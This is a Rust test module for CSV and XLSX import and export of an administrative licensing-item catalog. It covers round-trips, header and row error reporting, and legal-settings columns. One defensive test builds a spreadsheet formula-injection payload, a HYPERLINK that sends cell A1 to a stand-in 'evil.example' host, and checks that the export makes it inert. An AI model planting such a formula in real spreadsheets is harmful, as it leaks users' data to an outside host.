use proptest::prelude::*;

use super::super::item::Item;
use super::super::testgen::{catalog, valid_spec};
use super::*;

fn sample() -> Item {
    Item::new(valid_spec()).unwrap()
}

/// A CSV whose rows are the sample item with some cells replaced, by column name.
fn csv_of(rows: &[&[(&str, &str)]]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(column_names()).unwrap();
    for overrides in rows {
        let mut cells = columns::encode(&sample());
        for (column, value) in *overrides {
            let i = column_names().position(|c| c == *column).unwrap();
            cells[i] = (*value).to_owned();
        }
        w.write_record(&cells).unwrap();
    }
    w.into_inner().unwrap()
}

fn row_errors(result: Result<Vec<Item>, ImportError>) -> Vec<RowError> {
    match result {
        Err(ImportError::Rows { errors, total }) => {
            assert_eq!(
                errors.len(),
                total,
                "no error may be left out below the cap"
            );
            errors
        }
        other => panic!("expected row errors, got {other:?}"),
    }
}

#[test]
fn sample_item_survives_csv_and_xlsx() {
    let items = vec![sample()];
    assert_eq!(import_csv(&export_csv(&items).unwrap()).unwrap(), items);
    assert_eq!(
        import_xlsx(&export_xlsx(&items, CREATED).unwrap()).unwrap(),
        items
    );
}

#[test]
fn csv_export_starts_with_bom_and_english_header() {
    let bytes = export_csv(&[sample()]).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBFbasic_code,implementation_code,local_code,name,"));
}

#[test]
fn one_bad_row_rejects_the_whole_file_with_every_error() {
    let bytes = csv_of(&[
        &[],
        &[
            ("basic_code", "99010000100X"),
            ("area", "space"),
            ("version", "0"),
        ],
    ]);
    let errors = row_errors(import_csv(&bytes));
    let found: Vec<_> = errors
        .iter()
        .map(|e| (e.row, e.column.as_str(), e.value.as_str()))
        .collect();
    assert_eq!(
        found,
        vec![(3, "basic_code", "99010000100X"), (3, "area", "space")]
    );
    assert_eq!(
        errors[1].reason_en,
        "\"space\" is not a valid area code (allowed: market, investment, urban, environment, transport, livelihood)"
    );
    assert!(errors[1].reason_zh.contains("业务领域"));
}

#[test]
fn validation_problems_are_reported_under_their_column() {
    let bytes = csv_of(&[&[("promised_limit", "30 WD"), ("name", "")]]);
    let errors = row_errors(import_csv(&bytes));
    let cols: Vec<_> = errors.iter().map(|e| (e.row, e.column.as_str())).collect();
    assert_eq!(cols, vec![(2, "name"), (2, "promised_limit")]);
    assert_eq!(errors[1].value, "30 WD");
    assert_eq!(
        errors[1].reason_zh,
        "承诺办结时限30个工作日超过法定办结时限20个工作日"
    );
}

#[test]
fn nested_cell_errors_name_the_entry() {
    let bytes = csv_of(&[&[("materials", "申请书|1|0|1|self|0;营业执照|one|1|1|self|0")]]);
    let errors = row_errors(import_csv(&bytes));
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].column, "materials");
    assert_eq!(
        errors[0].reason_en,
        "entry 2: \"one\" must be a whole number"
    );
    assert_eq!(errors[0].reason_zh, "第2项：“one”应为非负整数");
}

#[test]
fn duplicate_basic_code_is_reported_on_the_later_row() {
    let errors = row_errors(import_csv(&csv_of(&[&[], &[]])));
    assert_eq!(errors.len(), 1);
    assert_eq!(
        (errors[0].row, errors[0].column.as_str()),
        (3, "basic_code")
    );
    assert_eq!(
        errors[0].reason_en,
        "basic code 990100001000 already used in row 2"
    );
}

#[test]
fn related_item_must_exist_and_be_a_related_item() {
    let related = [
        ("basic_code", "990100001001"),
        ("implementation_code", "11450721MB155808113990100001001"),
        ("category", "related"),
    ];
    let licensing_row: &[(&str, &str)] = &[("related_items", "990100001001;990100001099")];
    let errors = row_errors(import_csv(&csv_of(&[licensing_row, &related])));
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].value, "990100001099");
    assert_eq!(errors[0].reason_zh, "关联事项990100001099不在本文件中");

    let points_at_licensing: &[(&str, &str)] = &[
        ("basic_code", "990100002000"),
        ("implementation_code", "11450721MB155808113990100002000"),
        ("related_items", "990100001000"),
    ];
    let errors = row_errors(import_csv(&csv_of(&[&[], points_at_licensing])));
    assert_eq!(errors.len(), 1);
    assert!(errors[0].reason_en.contains("is a licensing item"));
}

#[test]
fn chinese_headers_in_any_order_are_accepted() {
    let item = sample();
    let mut pairs: Vec<(&str, String)> = ITEM_FIELDS
        .iter()
        .map(|(_, zh)| *zh)
        .zip(columns::encode(&item))
        .collect();
    pairs.reverse();
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(pairs.iter().map(|(h, _)| *h)).unwrap();
    w.write_record(pairs.iter().map(|(_, v)| v.as_str()))
        .unwrap();
    assert_eq!(import_csv(&w.into_inner().unwrap()).unwrap(), vec![item]);
}

#[test]
fn header_problems_are_all_reported_on_row_one() {
    let bytes = b"basic_code,basic_code,colour\n".to_vec();
    let errors = row_errors(import_csv(&bytes));
    assert!(errors.iter().all(|e| e.row == 1));
    assert!(errors.iter().any(|e| e.column == "colour"));
    assert!(
        errors
            .iter()
            .any(|e| e.reason_en == "this column appears twice")
    );
    // Every other column is reported missing.
    let missing = errors
        .iter()
        .filter(|e| e.reason_en.starts_with("the header lacks"))
        .count();
    // The legal-settings columns are optional (older files lack them).
    assert_eq!(missing, FIRST_OPTIONAL_FIELD - 1);
}

#[test]
fn empty_file_and_header_only_file_are_told_apart() {
    assert_eq!(row_errors(import_csv(b"")).len(), 1);
    assert_eq!(import_csv(&csv_of(&[])).unwrap(), vec![]);
}

#[test]
fn value_in_a_column_without_header_is_an_error() {
    let mut bytes = csv_of(&[&[]]);
    // Append an extra cell to the data row.
    let text = String::from_utf8(bytes.clone()).unwrap();
    let text = text.trim_end().to_owned() + ",stray\n";
    bytes = text.into_bytes();
    let errors = row_errors(import_csv(&bytes));
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].column, format!("#{}", ITEM_FIELDS.len() + 1));
    assert_eq!(errors[0].value, "stray");
}

#[test]
fn crlf_inside_a_quoted_cell_becomes_a_line_break() {
    let bytes = csv_of(&[&[("limit_note", "第一行\r\n第二行")]]);
    let items = import_csv(&bytes).unwrap();
    assert_eq!(items[0].limit_note.as_deref(), Some("第一行\n第二行"));
}

#[test]
fn invalid_utf8_is_reported_as_a_row_error() {
    let mut bytes = csv_of(&[]);
    bytes.extend_from_slice(b"\xff\xfe,x\n");
    let errors = row_errors(import_csv(&bytes));
    assert_eq!((errors[0].row, errors[0].column.as_str()), (2, "#1"));
}

#[test]
fn garbage_is_not_an_xlsx_file() {
    assert!(matches!(
        import_xlsx(b"not a zip"),
        Err(ImportError::Unreadable { format: "XLSX", .. })
    ));
}

#[test]
fn xlsx_keeps_text_that_looks_like_an_excel_escape() {
    let mut spec = valid_spec();
    spec.name = "许可_x0041_事项".to_owned();
    spec.limit_note = Some("甲\n乙".to_owned());
    let items = vec![Item::new(spec).unwrap()];
    assert_eq!(
        import_xlsx(&export_xlsx(&items, CREATED).unwrap()).unwrap(),
        items
    );
}

#[test]
fn xlsx_cells_typed_as_numbers_and_dates_are_read_as_text() {
    let item = sample();
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    let date_format = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd");
    for (col, ((name, _), value)) in (0u16..).zip(ITEM_FIELDS.iter().zip(columns::encode(&item))) {
        // Leave row 1 and column A empty: numbering must follow the sheet.
        sheet.write_string(1, col + 1, *name).unwrap();
        match *name {
            "version" => sheet.write_number(2, col + 1, 1.0).map(|_| ()).unwrap(),
            "effective_date" => {
                let date = rust_xlsxwriter::ExcelDateTime::from_ymd(2019, 1, 1).unwrap();
                sheet
                    .write_datetime_with_format(2, col + 1, &date, &date_format)
                    .map(|_| ())
                    .unwrap();
            }
            _ => sheet.write_string(2, col + 1, value).map(|_| ()).unwrap(),
        }
    }
    sheet.write_string(3, 1, "bad").unwrap();
    let bytes = workbook.save_to_buffer().unwrap();
    let errors = row_errors(import_xlsx(&bytes));
    // Only the deliberately bad fourth row fails, and it is numbered as the sheet shows it.
    assert!(errors.iter().all(|e| e.row == 4), "{errors:?}");
    assert!(
        errors
            .iter()
            .any(|e| e.column == "basic_code" && e.value == "bad")
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn csv_export_then_import_gives_back_the_items(items in catalog()) {
        let bytes = export_csv(&items).unwrap();
        prop_assert_eq!(import_csv(&bytes).unwrap(), items);
    }

    #[test]
    fn xlsx_export_then_import_gives_back_the_items(items in catalog()) {
        let bytes = export_xlsx(&items, CREATED).unwrap();
        prop_assert_eq!(import_xlsx(&bytes).unwrap(), items);
    }
}

/// The export time the tests write into workbooks.
const CREATED: time::OffsetDateTime = time::macros::datetime!(2026-11-27 08:00 UTC);

/// The domain reads no clock: the same items and creation time give the same bytes, even a
/// second apart (the XLSX writer's default creation time is the current second).
#[test]
fn xlsx_export_is_the_same_bytes_for_the_same_items_and_time() {
    let items = vec![sample()];
    let first = export_xlsx(&items, CREATED).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1100));
    assert_eq!(export_xlsx(&items, CREATED).unwrap(), first);
    let later = CREATED + time::Duration::days(1);
    assert_ne!(export_xlsx(&items, later).unwrap(), first);
}

/// Issue #15, item 9: text a spreadsheet program would run as a formula is exported with a
/// leading `'` in both formats (and as a string cell, never a formula, in XLSX), and an export
/// imports back to the same items.
#[test]
fn formula_like_text_is_exported_inert_and_imports_back_unchanged() {
    const LINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"详情\")";
    let mut spec = valid_spec();
    spec.name = LINK.to_owned();
    spec.limit_note = Some("@SUM(1+1)".to_owned());
    spec.local_code = Some("'-1".to_owned());
    let items = vec![Item::new(spec).unwrap()];

    let csv = export_csv(&items).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&csv[3..]);
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "CSV cell {cell:?} would run as a formula"
            );
        }
    }
    assert!(String::from_utf8_lossy(&csv).contains(&format!("'{}", &LINK[..10])));
    assert_eq!(import_csv(&csv).unwrap(), items);

    let xlsx = export_xlsx(&items, CREATED).unwrap();
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(&xlsx)).unwrap();
    use calamine::Reader;
    let range = book.worksheet_range("事项目录").unwrap();
    for cell in range.used_cells() {
        let text = cell.2.to_string();
        assert!(
            !text.starts_with(['=', '+', '-', '@']),
            "XLSX cell {text:?}"
        );
    }
    let formulas = book.worksheet_formula("事项目录").unwrap();
    assert!(
        formulas.used_cells().next().is_none(),
        "the export holds a formula"
    );
    assert_eq!(import_xlsx(&xlsx).unwrap(), items);
}

/// A CSV of the sample item with only the first 26 columns, as files were before issue #21.
fn old_csv(overrides: &[(&str, &str)]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(column_names().take(FIRST_OPTIONAL_FIELD))
        .unwrap();
    let mut cells = columns::encode(&sample());
    cells.truncate(FIRST_OPTIONAL_FIELD);
    for (column, value) in overrides {
        let i = column_names().position(|c| c == *column).unwrap();
        cells[i] = (*value).to_owned();
    }
    w.write_record(&cells).unwrap();
    w.into_inner().unwrap()
}

#[test]
fn art42_an_old_file_without_the_legal_columns_imports_as_the_general_rules() {
    let items = import_csv(&old_csv(&[])).unwrap();
    assert_eq!(items.len(), 1);
    assert!(items[0].legal.is_general());
    assert_eq!(
        items[0].legal,
        super::super::legal::LegalSettings::default()
    );
}

#[test]
fn art42_legal_columns_read_under_chinese_headers_with_their_sources() {
    let mut header: Vec<&str> = ITEM_FIELDS.iter().map(|(_, zh)| *zh).collect();
    header.truncate(FIRST_OPTIONAL_FIELD + 3);
    let mut cells = columns::encode(&sample());
    cells.truncate(FIRST_OPTIONAL_FIELD);
    cells.extend([
        "none|《中华人民共和国建筑法》第八条".to_owned(),
        "3|某条例第五条".to_owned(),
        "receipt|《中华人民共和国建筑法》第八条".to_owned(),
    ]);
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(&header).unwrap();
    w.write_record(&cells).unwrap();
    let items = import_csv(&w.into_inner().unwrap()).unwrap();
    let legal = &items[0].legal;
    assert_eq!(
        legal.extension.value,
        super::super::legal::ExtensionAllowance::None
    );
    assert_eq!(legal.extension.source, "《中华人民共和国建筑法》第八条");
    assert_eq!(legal.notice_window.value.working_days(), 3);
    assert_eq!(
        legal.clock_start.value,
        super::super::legal::ClockStart::Receipt
    );
    assert!(legal.renewal_lead.is_none());
}

#[test]
fn art45_a_site_check_cap_or_a_setting_without_source_is_refused_on_import() {
    let site = csv_of(&[&[("excluded_caps", "site_check|5 WD|某规定")]]);
    let errors = row_errors(import_csv(&site));
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].column, "excluded_caps");
    assert!(
        errors[0].reason_zh.contains("第四十五条"),
        "{}",
        errors[0].reason_zh
    );
    let unsourced = csv_of(&[&[("extension_allowance", "none|")]]);
    let errors = row_errors(import_csv(&unsourced));
    assert_eq!(errors[0].column, "extension_allowance");
    let long = csv_of(&[&[("notice_window", "7|某条例")]]);
    assert_eq!(row_errors(import_csv(&long))[0].column, "notice_window");
}

#[test]
fn the_embedded_real_items_round_trip_with_their_legal_settings() {
    let items = super::super::demo::real_items().unwrap();
    assert_eq!(import_csv(&export_csv(&items).unwrap()).unwrap(), items);
    assert!(items.iter().any(|i| !i.legal.is_general()));
}
